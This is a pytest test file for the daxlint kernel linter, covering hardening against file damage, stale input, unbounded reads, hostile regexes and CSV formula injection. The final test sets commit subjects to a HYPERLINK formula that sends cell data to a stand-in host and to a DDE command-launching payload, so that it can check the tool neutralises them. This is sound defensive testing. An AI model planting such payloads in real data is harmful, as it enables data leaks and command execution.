"""Hardening, second round (issue 28): what must never damage a user's
file or let a stale or unbounded input through - fixes written in the
file's own encoding and only over the bytes that were checked, a cache
keyed on content, the paths --fix may write, rule selection and its
precedence, baselines across renames, skipped files in --fix runs, output
linear in the code, bounded reads and regexes, a scheduler that does not
answer, CSV cells a spreadsheet would run, and diffs git applies."""

from __future__ import annotations

import codecs
import json
import os
import subprocess
from pathlib import Path

import pytest

from conftest import run_daxlint

DRIVER = """#include <linux/mm.h>

static int toy_mmap(struct file *file, struct vm_area_struct *vma)
{
\tvma->vm_flags |= VM_IO;
\treturn 0;
}
"""
FIXED = DRIVER.replace("vma->vm_flags |= VM_IO;", "vm_flags_set(vma, VM_IO);")


def check(cwd, *args, env=None):
    return run_daxlint("check", "--no-cache", "--kernel-version", "6.3", *args, cwd=cwd, env=env)


def git(repo: Path, *args: str, check: bool = True) -> subprocess.CompletedProcess:
    env = dict(
        os.environ,
        GIT_AUTHOR_NAME="t",
        GIT_AUTHOR_EMAIL="t@example.org",
        GIT_COMMITTER_NAME="t",
        GIT_COMMITTER_EMAIL="t@example.org",
        GIT_CONFIG_NOSYSTEM="1",
        HOME=str(repo),
    )
    return subprocess.run(["git", *args], cwd=repo, check=check, capture_output=True, env=env)


def findings(out: str) -> list[tuple[str, str, int]]:
    return [(f["rule_id"], f["path"], f["line"]) for f in json.loads(out)["findings"]]


# -- 9. a fix is written in the file's own encoding, or not at all

WIDE = [
    ("utf-16 with BOM", codecs.BOM_UTF16_LE, "utf-16-le"),
    ("utf-16-be with BOM", codecs.BOM_UTF16_BE, "utf-16-be"),
    ("utf-16-le without BOM", b"", "utf-16-le"),
    ("utf-32 with BOM", codecs.BOM_UTF32_LE, "utf-32-le"),
    ("utf-32-be without BOM", b"", "utf-32-be"),
]


@pytest.mark.parametrize("name, bom, codec", WIDE, ids=[w[0] for w in WIDE])
def test_fix_writes_a_wide_file_back_in_its_own_encoding(tmp_path, name, bom, codec):
    (tmp_path / "drv.c").write_bytes(bom + DRIVER.encode(codec))
    code, out, err = check(tmp_path, "--fix", "drv.c")
    assert code == 0, out + err
    assert "fixed 1 finding in 1 file" in out
    assert (tmp_path / "drv.c").read_bytes() == bom + FIXED.encode(codec)


@pytest.mark.parametrize("name, bom, codec", WIDE[:2], ids=[w[0] for w in WIDE[:2]])
def test_dry_run_of_a_wide_file_is_a_binary_patch_git_applies(tmp_path, name, bom, codec):
    """git calls a UTF-16 file binary (it has NUL bytes): the diff is the
    binary patch ``git diff --binary`` would print, which git apply takes."""
    git(tmp_path, "init", "-q")
    (tmp_path / "drv.c").write_bytes(bom + DRIVER.encode(codec))
    code, out, err = check(tmp_path, "--fix", "--dry-run", "drv.c")
    assert code == 1, err
    assert "GIT binary patch" in out
    (tmp_path / "fix.patch").write_text(out)
    git(tmp_path, "apply", "--check", "fix.patch")
    git(tmp_path, "apply", "fix.patch")
    assert (tmp_path / "drv.c").read_bytes() == bom + FIXED.encode(codec)


def test_a_wide_file_that_does_not_convert_back_exactly_is_not_fixed(tmp_path):
    """An unpaired surrogate reads as U+FFFD: writing the text back would
    change bytes no fix touched. Refused with a note; the finding stays."""
    data = codecs.BOM_UTF16_LE + DRIVER.replace("return 0;", "return 0; /* X */").encode("utf-16-le")
    data = data.replace("X".encode("utf-16-le"), b"\x00\xd8")  # a lone high surrogate
    (tmp_path / "drv.c").write_bytes(data)
    code, out, err = check(tmp_path, "--fix", "--format", "json", "drv.c")
    assert code == 1, err
    doc = json.loads(out)
    assert findings(out) == [("DAX301", "drv.c", 5)]
    assert any("drv.c: not fixed:" in n and "UTF-16" in n for n in doc["notes"]), doc["notes"]
    assert (tmp_path / "drv.c").read_bytes() == data


def _one_patch(tmp_path: Path, files: dict[str, str], base: dict[str, str] | None = None) -> tuple[Path, bytes]:
    """A v6.3 repository (its ``base`` files committed) and the format-patch
    text of one commit adding ``files``, after which the repository is
    reset to its base: (repository, patch)."""
    repo = tmp_path / "repo"
    repo.mkdir()
    git(repo, "init", "-q")
    for rel, text in {"Makefile": "VERSION = 6\nPATCHLEVEL = 3\nSUBLEVEL = 0\n", **(base or {})}.items():
        (repo / rel).write_text(text)
    git(repo, "add", ".")
    git(repo, "commit", "-qm", "base")
    for rel, text in files.items():
        (repo / rel).parent.mkdir(parents=True, exist_ok=True)
        (repo / rel).write_text(text)
    git(repo, "add", ".")
    git(repo, "commit", "-qm", "toy: add")
    text = git(repo, "format-patch", "-1", "--stdout").stdout
    git(repo, "reset", "-q", "--hard", "HEAD~1")
    return repo, text


def _utf16_series(tmp_path: Path) -> Path:
    """A one-patch series adding a direct write, saved as UTF-16 (what
    PowerShell's redirection writes)."""
    _repo, text = _one_patch(tmp_path, {"drivers/toy.c": DRIVER})
    patch = tmp_path / "0001-toy-add.patch"
    patch.write_bytes(codecs.BOM_UTF16_LE + text.decode().encode("utf-16-le"))
    return patch


def test_patch_fix_writes_a_utf16_series_back_as_utf16(tmp_path):
    patch = _utf16_series(tmp_path)
    fixed = tmp_path / "fixed"
    code, out, err = run_daxlint("patch", "--kernel-version", "6.3", "--fix", "--fix-dir", str(fixed), str(patch), cwd=tmp_path)
    assert code == 0, out + err
    assert "fixed 1 finding in 1 patch" in out
    data = (fixed / patch.name).read_bytes()
    assert data.startswith(codecs.BOM_UTF16_LE)
    text = data[2:].decode("utf-16-le")
    assert "+\tvm_flags_set(vma, VM_IO);\n" in text and "vma->vm_flags |=" not in text
    code, out, err = run_daxlint("patch", "--kernel-version", "6.3", str(fixed / patch.name), cwd=tmp_path)
    assert code == 0, out + err
    code, out, err = run_daxlint("patch", "--kernel-version", "6.3", "--fix", "--dry-run", str(patch), cwd=tmp_path)
    assert code == 1, err
    assert out.startswith("From ") and "+\tvm_flags_set(vma, VM_IO);\n" in out


def test_patch_fix_counts_a_finding_fixed_only_when_its_patch_was_rewritten(tmp_path):
    """A patch whose text cannot be rewritten keeps its finding: the run
    does not say it fixed it, and fails."""
    patch = _utf16_series(tmp_path)
    data = patch.read_bytes()
    # A lone surrogate in the message: the series does not convert back exactly.
    patch.write_bytes(data.replace("toy: add".encode("utf-16-le"), "toy: add ".encode("utf-16-le") + b"\x00\xd8", 1))
    code, out, err = run_daxlint(
        "patch", "--kernel-version", "6.3", "--fix", "--fix-dir", str(tmp_path / "fixed"), str(patch), cwd=tmp_path
    )
    assert code == 1, out + err
    assert "drivers/toy.c: not fixed: its UTF-16 text does not convert to UTF-8 and back unchanged" in out
    assert "fixed 0 findings in 0 patches" in out
    assert "drivers/toy.c:5:" in out


# -- 10. a file that changes while daxlint works on it is never written with stale offsets


def _edit_on_fsync(monkeypatch, path: Path, text: str) -> None:
    """An editor saving ``path`` while daxlint writes its temporary."""
    import daxlint.core.outfiles as outfiles

    real_fsync = outfiles.os.fsync

    def fsync(fd):
        path.write_text(text)
        return real_fsync(fd)

    monkeypatch.setattr(outfiles.os, "fsync", fsync)


def test_the_writer_compares_the_bytes_right_before_the_rename(tmp_path, monkeypatch):
    from daxlint.fix.write import replace_file

    f = tmp_path / "a.c"
    f.write_bytes(b"old\n")
    _edit_on_fsync(monkeypatch, f, "edited\n")
    why = replace_file(str(f), b"old\n", b"new\n", [str(tmp_path)])
    assert why == "not written: the file changed while daxlint checked it (run again)"
    assert f.read_text() == "edited\n"
    assert [p.name for p in tmp_path.iterdir()] == ["a.c"]  # no temporary left behind


def test_fix_of_a_file_edited_during_the_write_is_not_claimed(tmp_path, monkeypatch):
    from conftest import run_inprocess

    (tmp_path / "Makefile").write_text("VERSION = 6\nPATCHLEVEL = 3\nSUBLEVEL = 0\n")
    drv = tmp_path / "drv.c"
    drv.write_text(DRIVER)
    edited = DRIVER.replace("\treturn 0;", "\treturn 1;")
    _edit_on_fsync(monkeypatch, drv, edited)
    code, out, err = run_inprocess("check", "--no-cache", "--fix", "--format", "json", "drv.c", cwd=tmp_path)
    assert code == 1, err
    doc = json.loads(out)
    assert "drv.c: not written: the file changed while daxlint checked it (run again)" in doc["notes"]
    assert "fixed 0 findings in 0 files" in doc["notes"]
    assert findings(out.decode()) == [("DAX301", "drv.c", 5)]
    assert drv.read_text() == edited


def test_fix_of_a_file_edited_after_its_check_uses_the_new_bytes(tmp_path, monkeypatch):
    """The report's offsets are of the bytes the check read; the fix is
    made from the bytes it writes over (an editor added a line meanwhile)."""
    import daxlint.commands.check as check_command
    from conftest import run_inprocess

    (tmp_path / "Makefile").write_text("VERSION = 6\nPATCHLEVEL = 3\nSUBLEVEL = 0\n")
    drv = tmp_path / "drv.c"
    drv.write_text(DRIVER)
    real_check = check_command.check_paths
    moved = "/* a comment the editor added */\n" + DRIVER

    def check_then_edit(engine, paths, **options):
        report = real_check(engine, paths, **options)
        if drv.read_text() == DRIVER:  # the edit comes once, after the first check
            drv.write_text(moved)
        return report

    monkeypatch.setattr(check_command, "check_paths", check_then_edit)
    code, out, err = run_inprocess("check", "--no-cache", "--fix", "drv.c", cwd=tmp_path)
    assert code == 0, out + err
    assert drv.read_text() == "/* a comment the editor added */\n" + FIXED


# -- 11. the result cache knows files by their content, not their size and mtime

WRITE_LINE = "\tvma->vm_flags |= VM_IO;  "  # as long as the call below: the same size either way
CALL_LINE = "\tvm_flags_set(vma, VM_IO);"


def _replace_keeping_size_and_mtime(path: Path, text: str) -> None:
    """What cp -p, touch -r, rsync -t and tar do: other bytes, the same size
    and modification time."""
    st = path.stat()
    assert len(text.encode()) == st.st_size
    path.write_text(text)
    os.utime(path, ns=(st.st_atime_ns, st.st_mtime_ns))


@pytest.fixture
def cached_tree(tmp_path):
    tree = tmp_path / "linux"
    (tree / "drivers" / "toy").mkdir(parents=True)
    (tree / "Makefile").write_text("VERSION = 6\nPATCHLEVEL = 3\nSUBLEVEL = 0\n")
    return tree, {"XDG_CACHE_HOME": str(tmp_path / "xdg")}


def test_a_same_size_same_mtime_replacement_is_not_answered_from_the_cache(cached_tree):
    tree, env = cached_tree
    drv = tree / "drivers" / "toy" / "drv.c"
    drv.write_text(DRIVER.replace("\tvma->vm_flags |= VM_IO;", CALL_LINE))
    code, out, err = run_daxlint("check", "--format", "json", ".", cwd=tree, env=env)
    assert code == 0 and findings(out) == [], out + err
    _replace_keeping_size_and_mtime(drv, DRIVER.replace("\tvma->vm_flags |= VM_IO;", WRITE_LINE))
    code, out, err = run_daxlint("check", "--format", "json", ".", cwd=tree, env=env)
    assert code == 1, err
    assert findings(out) == [("DAX301", "drivers/toy/drv.c", 5)]
    # and back: the stale finding neither fails the run nor drives --fix
    clean = DRIVER.replace("\tvma->vm_flags |= VM_IO;", CALL_LINE)
    _replace_keeping_size_and_mtime(drv, clean)
    code, out, err = run_daxlint("check", "--fix", ".", cwd=tree, env=env)
    assert code == 0, out + err
    assert drv.read_text() == clean


def test_a_context_file_replaced_with_the_same_size_and_mtime_is_noticed(cached_tree):
    """The Kconfig a DAX102 verdict read: its opt-in commented out in place."""
    tree, env = cached_tree
    toy = tree / "drivers" / "toy"
    (toy / "Kconfig").write_text('config TOY_SEGBLK\n\ttristate "Toy"\n\tselect FS_DAX_LIMITED\n\tselect DAX\n')
    (toy / "seg.c").write_text(
        "static long toy_direct_access(struct dax_device *dax_dev, pgoff_t pgoff, long nr_pages,\n"
        "\t\t\t      enum dax_access_mode mode, void **kaddr, pfn_t *pfn)\n{\n"
        "\t*pfn = __pfn_to_pfn_t(pgoff, PFN_DEV | PFN_SPECIAL);\n\treturn nr_pages;\n}\n\n"
        "static const struct dax_operations toy_ops = {\n\t.direct_access = toy_direct_access,\n};\n"
    )
    args = ("check", "--select", "DAX102", "--format", "json", ".")
    code, out, err = run_daxlint(*args, cwd=tree, env=env)
    assert code == 0 and findings(out) == [], out + err
    _replace_keeping_size_and_mtime(toy / "Kconfig", 'config TOY_SEGBLK\n\ttristate "Toy"\n\t#elect FS_DAX_LIMITED\n\tselect DAX\n')
    # the directory's listing and mtime are unchanged too
    code, out, err = run_daxlint(*args, cwd=tree, env=env)
    assert code == 1, err
    assert findings(out) == [("DAX102", "drivers/toy/seg.c", 4)]


def test_a_files_stamp_spares_reading_it_until_a_replacement_moves_it(tmp_path, monkeypatch):
    """A warm run reads no file whose stamp (inode, size, mtime, ctime) is
    the one it had when it was hashed; cp -p and touch -r keep size and
    mtime but move the ctime (or the inode), so the file is hashed again."""
    import daxlint.core.cache as cache_module
    import daxlint.core.runner as runner
    from daxlint.core.engine import Engine, EngineOptions
    from daxlint.core.kernel import KernelContext
    from daxlint.core.registry import all_rules
    from daxlint.version import KernelVersion

    monkeypatch.setattr(cache_module, "RACY_NS", 0)  # no second to wait for before a stamp is trusted
    (tmp_path / "src").mkdir()
    drv = tmp_path / "src" / "drv.c"
    drv.write_text(DRIVER.replace("\tvma->vm_flags |= VM_IO;", CALL_LINE))
    (tmp_path / "src" / "other.c").write_text(DRIVER)

    def run():
        opts = EngineOptions(jobs=1, use_cache=True, cache_path=str(tmp_path / "cache.sqlite"))
        engine = Engine(list(all_rules()), KernelContext(None, KernelVersion(6, 3), "flag"), opts)
        return [(f.rule_id, Path(f.path).name, f.line) for f in runner.check_paths(engine, [str(tmp_path / "src")]).findings]

    assert run() == [("DAX301", "other.c", 5)]
    real_read = runner.read_source_stat
    monkeypatch.setattr(runner, "read_source_stat", lambda *a, **k: pytest.fail("read a file whose stamp the cache knows"))
    assert run() == [("DAX301", "other.c", 5)]
    monkeypatch.setattr(runner, "read_source_stat", real_read)
    _replace_keeping_size_and_mtime(drv, DRIVER.replace("\tvma->vm_flags |= VM_IO;", WRITE_LINE))
    assert run() == [("DAX301", "drv.c", 5), ("DAX301", "other.c", 5)]


# -- 12. --fix writes only below the paths named; 23. a symlink alias is one file


@pytest.fixture
def linked(tmp_path):
    """tree/link.c -> ../outside/victim.c, tree/alias.c -> real.c; no kernel
    Makefile and no git work tree: nothing but the paths named bounds it."""
    (tmp_path / "tree").mkdir()
    (tmp_path / "outside").mkdir()
    (tmp_path / "outside" / "victim.c").write_text(DRIVER)
    (tmp_path / "tree" / "real.c").write_text(DRIVER)
    os.symlink("../outside/victim.c", tmp_path / "tree" / "link.c")
    os.symlink("real.c", tmp_path / "tree" / "alias.c")
    return tmp_path


@pytest.mark.parametrize("dry_run", [False, True])
def test_fix_never_writes_outside_the_paths_named(linked, dry_run):
    code, out, err = check(linked, "--fix", *(["--dry-run"] if dry_run else ["--format", "json"]), "tree")
    assert code == 1, out + err
    assert (linked / "outside" / "victim.c").read_text() == DRIVER
    note = "tree/link.c: not fixed: a symbolic link to outside/victim.c, outside the paths named (tree)"
    if dry_run:
        assert "victim" not in out and "a/tree/real.c" in out and note in err
        return
    doc = json.loads(out)
    assert note in doc["notes"]
    assert findings(out) == [("DAX301", "tree/link.c", 5)]  # checked, reported, not rewritten
    assert (linked / "tree" / "real.c").read_text() == FIXED


def test_fix_through_a_symlink_alias_fixes_the_file_once(linked):
    code, out, err = check(linked, "--fix", "--format", "json", "tree/alias.c", "tree/real.c")
    assert code == 0, out + err
    doc = json.loads(out)
    assert findings(out) == []
    assert "fixed 1 finding in 1 file" in doc["notes"]
    assert "tree/alias.c: the same file as tree/real.c (a symbolic link): fixed as tree/real.c" in doc["notes"]
    assert (linked / "tree" / "real.c").read_text() == FIXED and os.path.islink(linked / "tree" / "alias.c")


def test_a_symlink_named_on_the_command_line_may_be_fixed(linked):
    """Naming the link names the file it leads to (as an editor opens it)."""
    code, out, err = check(linked, "--fix", "tree/link.c")
    assert code == 0, out + err
    assert (linked / "outside" / "victim.c").read_text() == FIXED and os.path.islink(linked / "tree" / "link.c")


# -- 13. the command line's selection wins over the config's; no rule at all is an error

VM_AND_PFN = DRIVER.replace(
    "\treturn 0;", "\treturn 0;\n}\n\nstatic pfn_t toy_pfn(unsigned long pfn)\n{\n\treturn __pfn_to_pfn_t(pfn, PFN_DEV);"
)


def _selected(tmp_path, config: str, *args: str) -> tuple[int, str, str]:
    (tmp_path / ".daxlint.toml").write_text(config)
    (tmp_path / "drv.c").write_text(VM_AND_PFN)
    return check(tmp_path, "--format", "json", *args, "drv.c")


@pytest.mark.parametrize(
    "config, args, expected",
    [
        ('ignore = ["DAX3"]\n', ("--select", "DAX301"), ["DAX301"]),  # the command line's select replaces the config's ignore
        ('select = ["DAX1"]\n', ("--select", "DAX301"), ["DAX301"]),
        ('ignore = ["DAX3"]\n', (), ["DAX101"]),
        ('select = ["DAX1", "DAX3"]\n', ("--ignore", "DAX1"), ["DAX301"]),  # an --ignore narrows the config's select
        ("", ("--select", "DAX301", "--ignore", "DAX3"), ["DAX301"]),  # the more specific selector wins, as in ruff
        ("", ("--select", "DAX3", "--ignore", "DAX301"), []),
        ('select = ["DAX301"]\nignore = ["DAX3"]\n', (), ["DAX301"]),
    ],
)
def test_selection_precedence_is_ruffs(tmp_path, config, args, expected):
    code, out, err = _selected(tmp_path, config, *args)
    assert code in (0, 1), err
    assert sorted({rule for rule, _, _ in findings(out)}) == expected


@pytest.mark.parametrize(
    "config, args, named",
    [
        ('ignore = ["DAX"]\n', (), "ignore DAX"),
        ("", ("--select", "DAX301", "--ignore", "DAX301"), "command line: select DAX301, ignore DAX301"),
        ('select = ["DAX1"]\n', ("--ignore", "DAX1"), "command line: ignore DAX1"),
    ],
)
def test_a_selection_of_no_rules_is_an_error(tmp_path, config, args, named):
    code, out, err = _selected(tmp_path, config, *args)
    assert code == 2 and out == ""
    (line,) = err.strip().splitlines()
    assert line.startswith("daxlint: error: no rules selected (") and named in line and "nothing would be checked" in line


# -- 14. a baseline entry of a deleted file matches only the same code moved elsewhere


def _mmap_fn(name: str, flag: str = "VM_IO") -> str:
    return f"static int {name}(struct file *file, struct vm_area_struct *vma)\n{{\n\tvma->vm_flags |= {flag};\n\treturn 0;\n}}\n"


@pytest.fixture
def baselined(tmp_path):
    root = tmp_path / "linux"
    (root / "drivers" / "misc").mkdir(parents=True)
    (root / "Makefile").write_text("VERSION = 6\nPATCHLEVEL = 3\nSUBLEVEL = 0\n")
    (root / "drivers" / "misc" / "old.c").write_text("/* old driver */\n#include <linux/mm.h>\n\n" + _mmap_fn("old_mmap"))
    git(root, "init", "-q")
    git(root, "add", ".")
    git(root, "commit", "-qm", "base")
    code, out, err = run_daxlint("check", "--no-cache", "--write-baseline", "bl.json", ".", cwd=root)
    assert code == 0, err
    return root


def test_a_deleted_files_entry_does_not_hide_other_code_with_the_same_message(baselined):
    git(baselined, "rm", "-q", "drivers/misc/old.c")
    (baselined / "drivers" / "misc").mkdir(parents=True, exist_ok=True)
    (baselined / "drivers" / "misc" / "new.c").write_text(_mmap_fn("new_mmap"))  # the same rule and message, other code
    code, out, err = run_daxlint("check", "--no-cache", "--format", "json", "--baseline", "bl.json", ".", cwd=baselined)
    assert code == 1, err
    doc = json.loads(out)
    assert findings(out) == [("DAX301", "drivers/misc/new.c", 3)]
    assert doc["baseline"]["renamed"] == []
    assert [(e["rule_id"], e["path"]) for e in doc["baseline"]["fixed"]] == [("DAX301", "drivers/misc/old.c")]


def test_a_moved_file_still_matches_its_entry_after_edits_elsewhere(baselined):
    git(baselined, "mv", "drivers/misc/old.c", "drivers/misc/old_core.c")
    moved = baselined / "drivers" / "misc" / "old_core.c"
    moved.write_text("/* old driver, renamed */\n#include <linux/mm.h>\n#include <linux/fs.h>\n\n" + _mmap_fn("old_mmap"))
    code, out, err = run_daxlint("check", "--no-cache", "--format", "json", "--baseline", "bl.json", ".", cwd=baselined)
    assert code == 0, out + err
    doc = json.loads(out)
    assert [(e["rule_id"], e["path"]) for e in doc["baseline"]["renamed"]] == [("DAX301", "drivers/misc/old.c")]


# -- 15. a skipped file in a --fix run: --strict fails, the run says so, the fix leaves it alone

BIG = DRIVER.replace("#include <linux/mm.h>\n", "#include <linux/mm.h>\n" + "/* padding */\n" * 40)


def test_check_strict_fix_dry_run_with_a_skipped_file_exits_2(tmp_path):
    (tmp_path / ".daxlint.toml").write_text("max-file-size = 400\n")
    (tmp_path / "big.c").write_text(BIG)
    (tmp_path / "drv.c").write_text(DRIVER)
    code, out, err = check(tmp_path, "--strict", "--fix", "--dry-run", "big.c", "drv.c")
    assert code == 2, out + err
    assert "a/drv.c" in out and "big.c" not in out
    assert "daxlint: big.c: skipped: too large" in err
    assert err.strip().splitlines()[-1].startswith("daxlint: error: 1 file could not be analysed (--strict): big.c: too large")
    code, out, err = check(tmp_path, "--fix", "--dry-run", "big.c", "drv.c")
    assert code == 1 and "daxlint: big.c: skipped: too large" in err


def _series_with_a_big_file(tmp_path: Path) -> Path:
    _repo, text = _one_patch(tmp_path, {"drivers/big.c": BIG}, base={".daxlint.toml": "max-file-size = 400\n"})
    patch = tmp_path / "0001-big-add.patch"
    patch.write_bytes(text)
    return patch


def test_patch_fix_leaves_a_skipped_file_alone_and_strict_exits_2(tmp_path):
    patch = _series_with_a_big_file(tmp_path)
    repo = tmp_path / "repo"
    code, out, err = run_daxlint("patch", "--strict", "--fix", "--dry-run", str(patch), cwd=repo)
    assert code == 2, out + err
    assert "vm_flags_set" not in out  # the series as it was
    assert "drivers/big.c: skipped: too large" in err
    code, out, err = run_daxlint("patch", "--fix", "--fix-dir", str(tmp_path / "fixed"), str(patch), cwd=repo)
    assert code == 0, out + err  # nothing found: the file was not analysed (a note says so; --strict fails)
    assert "too large" in out and "fixed 0 findings in 0 patches" in out
    assert (tmp_path / "fixed" / patch.name).read_bytes() == patch.read_bytes()


# -- 17. a fold's edits are written once: output linear in the code


def _writes(n: int, vmas: tuple[str, ...] = ("vma",)) -> str:
    body = "".join(f"\t{vmas[i % len(vmas)]}->vm_flags |= VM_IO;\n" for i in range(n))
    params = ", ".join(f"struct vm_area_struct *{v}" for v in vmas)
    return f"static int toy_mmap(struct file *file, {params})\n{{\n{body}\treturn 0;\n}}\n"


@pytest.mark.parametrize("fmt", ["json", "sarif"])
@pytest.mark.parametrize(
    "versions, vmas",
    [
        ("6.3", ("vma",)),  # one fold
        ("6.1..6.3", ("vma",)),  # one fold under one version test
        ("6.1..6.3", ("vma", "vmb")),  # a run of writes that do not fold, under one version test
    ],
)
def test_output_grows_linearly_with_consecutive_writes(tmp_path, fmt, versions, vmas):
    sizes = {}
    for n in (500, 1000):
        (tmp_path / f"w{n}.c").write_text(_writes(n, vmas))
        code, out, err = run_daxlint("check", "--no-cache", "--kernel-version", versions, "--format", fmt, f"w{n}.c", cwd=tmp_path)
        assert code == 1, err
        sizes[n] = len(out)
    assert sizes[1000] < 2.2 * sizes[500], sizes  # quadratic would be 4x


def test_a_fold_still_fixes_every_write_it_folds(tmp_path):
    (tmp_path / "w.c").write_text(_writes(3))
    code, out, err = check(tmp_path, "--format", "json", "w.c")
    fixes = [f["fix"] for f in json.loads(out)["findings"]]
    assert len(fixes[0]["edits"]) == 3 and fixes[0]["also_fixes"] == [{"line": 4, "column": 2}, {"line": 5, "column": 2}]
    assert [f["part_of"] for f in fixes[1:]] == [{"line": 3, "column": 2}] * 2 and all(f["edits"] == [] for f in fixes[1:])
    assert all(f["alone"]["edits"] for f in fixes[1:])
    code, out, err = check(tmp_path, "--fix", "w.c")
    assert code == 0, out + err
    assert "fixed 3 findings in 1 file" in out
    assert (tmp_path / "w.c").read_text() == _writes(0).replace("{\n", "{\n\tvm_flags_set(vma, VM_IO);\n", 1)


# -- 18. a file named by content is read only when it is a regular file within the size limit


def _bounded(cwd: Path, *args: str) -> subprocess.CompletedProcess:
    """daxlint with a deadline: reading /dev/zero to its end would hang."""
    env = dict(os.environ, NO_COLOR="1")
    return subprocess.run([os.sys.executable, "-m", "daxlint", *args], cwd=cwd, capture_output=True, text=True, timeout=60, env=env)


def test_an_include_of_a_device_or_fifo_is_not_read(tmp_path):
    os.mkfifo(tmp_path / "fifo.h")
    src = '#include "/dev/zero"\n#include "fifo.h"\n#include "/dev/urandom"\n' + DRIVER
    (tmp_path / "drv.c").write_text(src)
    proc = _bounded(tmp_path, "check", "--no-cache", "--kernel-version", "6.3", "--format", "json", "drv.c")
    assert proc.returncode == 1, proc.stderr
    assert findings(proc.stdout) == [("DAX301", "drv.c", 8)]


def test_a_kconfig_source_of_a_device_is_not_read(tmp_path):
    (tmp_path / "Makefile").write_text("VERSION = 6\nPATCHLEVEL = 3\nSUBLEVEL = 0\n")
    # The driver opts in to FS_DAX_LIMITED: DAX102 reads the tree's Kconfig
    # files, from the top one on, to see that the symbol still exists.
    (tmp_path / "Kconfig").write_text('source "/dev/zero"\nsource "fs/Kconfig"\nsource "drivers/Kconfig"\n')
    (tmp_path / "fs").mkdir()
    (tmp_path / "fs" / "Kconfig").write_text("config FS_DAX_LIMITED\n\tbool\n")
    (tmp_path / "drivers").mkdir()
    (tmp_path / "drivers" / "Kconfig").write_text('config TOY\n\ttristate "Toy"\n\tselect DAX\n\tselect FS_DAX_LIMITED\n')
    (tmp_path / "drivers" / "seg.c").write_text(
        "static long toy_direct_access(struct dax_device *dax_dev, pgoff_t pgoff, long nr_pages,\n"
        "\t\t\t      enum dax_access_mode mode, void **kaddr, pfn_t *pfn)\n{\n"
        "\t*pfn = __pfn_to_pfn_t(pgoff, PFN_DEV | PFN_SPECIAL);\n\treturn nr_pages;\n}\n\n"
        "static const struct dax_operations toy_ops = {\n\t.direct_access = toy_direct_access,\n};\n"
    )
    proc = _bounded(tmp_path, "check", "--no-cache", "--select", "DAX102", "--format", "json", ".")
    assert proc.returncode == 0, proc.stderr
    assert findings(proc.stdout) == []
    (tmp_path / "fs" / "Kconfig").write_text("config FS_DAX\n\tbool\n")  # the symbol is gone: the opt-in is stale
    proc = _bounded(tmp_path, "check", "--no-cache", "--select", "DAX102", "--format", "json", ".")
    assert proc.returncode == 1, proc.stderr
    assert findings(proc.stdout) == [("DAX102", "drivers/seg.c", 4)]


@pytest.mark.parametrize("name", [".daxlint.toml", "dkms.conf"])
def test_a_config_or_dkms_conf_that_is_a_device_is_a_one_line_error(tmp_path, name):
    os.symlink("/dev/zero", tmp_path / name)
    (tmp_path / "drv.c").write_text(DRIVER)
    proc = _bounded(tmp_path, "check", "--no-cache", "drv.c")
    assert proc.returncode == 2, proc.stdout + proc.stderr
    (line,) = proc.stderr.strip().splitlines()
    assert name in line and "not a regular file" in line


# -- 19. a BUILD_EXCLUSIVE_KERNEL regex is matched within bounds, or refused in one line


@pytest.mark.parametrize(
    "regex, why",
    [
        ("^(((.*)*)*)*X$", "took longer than"),  # catastrophic backtracking
        ("a{4294967296}", "is not a regular expression"),  # past the repeat limit
        ("(" * 1000 + "6" + ")" * 1000, "is not a regular expression"),  # nested deeper than the parser goes
    ],
)
def test_a_hostile_build_exclusive_kernel_is_a_one_line_error(tmp_path, regex, why):
    (tmp_path / "dkms.conf").write_text(f'PACKAGE_NAME="toy"\nBUILD_EXCLUSIVE_KERNEL="{regex}"\n')
    (tmp_path / "drv.c").write_text(DRIVER)
    proc = _bounded(tmp_path, "check", "--no-cache", "drv.c")
    assert proc.returncode == 2, proc.stdout + proc.stderr
    (line,) = proc.stderr.strip().splitlines()
    assert line.startswith("daxlint: error: ") and "dkms.conf: BUILD_EXCLUSIVE_KERNEL" in line and why in line
    assert len(line) < 300  # the pattern is not echoed whole


# -- 20. a scheduler address where nothing speaks Dask: one line, exit 2, in bounded time


class _SilentServer:
    """A TCP server on localhost that accepts and then says nothing, or
    answers every connection with ``reply`` (an HTTP server, say); it stops
    by itself after ``lifetime`` seconds."""

    def __init__(self, reply: bytes = b"", lifetime: float = 120.0):
        import socket
        import threading

        self.sock = socket.create_server(("127.0.0.1", 0))
        self.sock.settimeout(0.5)
        self.port = self.sock.getsockname()[1]
        self.reply = reply
        self.held = []
        self.deadline = __import__("time").monotonic() + lifetime
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        import time

        while time.monotonic() < self.deadline:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            if self.reply:
                conn.sendall(self.reply)
            self.held.append(conn)  # open and silent
        self.close()

    def close(self):
        for c in self.held:
            c.close()
        self.sock.close()


@pytest.mark.parametrize("reply", [b"", b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"], ids=["silent", "http"])
def test_audit_against_a_server_that_does_not_speak_dask_is_one_line(tmp_path, reply):
    pytest.importorskip("distributed")
    from audit_repo import ScratchRepo, mmap_writer

    r = ScratchRepo(tmp_path / "repo")
    r.write("drivers/foo/drv.c", mmap_writer("foo_mmap"))
    r.commit("foo: add mmap")
    server = _SilentServer(reply)
    try:
        proc = _bounded(r.path, "audit", "--scheduler", f"tcp://127.0.0.1:{server.port}", "--db", str(tmp_path / "a.db"), "HEAD")
    finally:
        server.close()
    assert proc.returncode == 2, proc.stdout + proc.stderr
    (line,) = proc.stderr.strip().splitlines()
    assert line.startswith("daxlint: error: cannot use the Dask scheduler tcp://127.0.0.1:") and "Traceback" not in proc.stderr
    assert line.count("cannot use the Dask scheduler") == 1


# -- 21. CSV cells a spreadsheet would take for a formula are neutralised (OWASP)


def test_audit_csv_cells_never_start_a_formula(tmp_path):
    """Subjects, authors and branch names are the committers' to choose."""
    import csv
    import io

    from audit_repo import ScratchRepo, mmap_writer

    r = ScratchRepo(tmp_path / "repo")
    r.write("drivers/misc/other.c", "int other;\n")
    r.commit("base")
    r.git("tag", "v6.3")
    r.git("checkout", "-q", "-b", "=1+1")
    r.write("drivers/qux/qux.c", mmap_writer("qux_mmap"))
    r.commit("qux: add mmap")
    r.git("checkout", "-q", "main")
    r.write("drivers/foo/drv.c", mmap_writer("foo_mmap"))
    r.commit('=HYPERLINK("http://example.invalid/?"&A1,"click")', author="+Mallory <m@example.org>")
    r.write("drivers/bar/bar.c", mmap_writer("bar_mmap"))
    r.commit("@SUM(1+1)*cmd|' /C calc'!A0", author="-Eve <e@example.org>")
    r.write("drivers/baz/baz.c", mmap_writer("baz_mmap"))
